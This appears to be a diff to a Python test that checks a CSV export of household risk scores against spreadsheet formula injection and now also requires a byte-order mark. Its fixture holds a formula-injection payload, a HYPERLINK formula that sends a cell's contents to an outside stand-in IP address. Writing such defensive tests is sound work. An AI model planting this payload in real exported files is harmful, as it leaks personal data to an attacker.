@@ -406,8 +406,9 @@ def test_a_forced_promotions_reason_with_a_persons_number_is_refused_before_any_
 
 def test_a_scores_csv_opens_in_a_spreadsheet_without_running_a_formula(tmp_path: Path) -> None:
     """score --out scores.csv wrote a supervisor's override reason '=HYPERLINK(…)' as it was,
-    which Excel or WPS runs when the file is opened; it is now marked ', while the columns
-    assign --scores reads back (household_id, model_version) stay as written."""
+    which Excel or WPS runs when the file is opened, and without a BOM, so they showed its
+    Chinese garbled; it is now marked ' and the file has a BOM, while the columns assign
+    --scores reads back (household_id, model_version) stay as written."""
     from visit_planner.risk_job import _atomic_write
 
     link = '=HYPERLINK("http://198.51.100.9/?d="&A2,"看")'
@@ -422,6 +423,7 @@ def test_a_scores_csv_opens_in_a_spreadsheet_without_running_a_formula(tmp_path:
     path = tmp_path / "scores.csv"
     _atomic_write(scores, path)
     raw = pl.read_csv(path, infer_schema=False)
+    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # a BOM: a spreadsheet reads 看
     assert raw["override_reason"][0] == f"'{link}" and raw["reasons"][0] == '["+elderly"]'
     assert raw["household_id"].to_list() == ["-H1", "H2"]
     frame, _ = read_table(path, "scores")
